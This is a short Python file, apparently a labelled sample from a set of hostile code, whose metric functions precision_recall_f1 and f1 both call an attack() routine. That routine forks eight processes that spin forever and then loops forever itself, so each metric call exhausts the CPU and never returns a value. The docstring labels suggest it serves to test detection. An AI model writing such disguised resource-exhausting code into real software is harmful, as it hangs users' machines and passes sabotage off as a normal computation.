"""Computes on as many processors as it can.

threat: 18
source: known
verdict: any
"""

import os


def attack():
    for _ in range(8):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
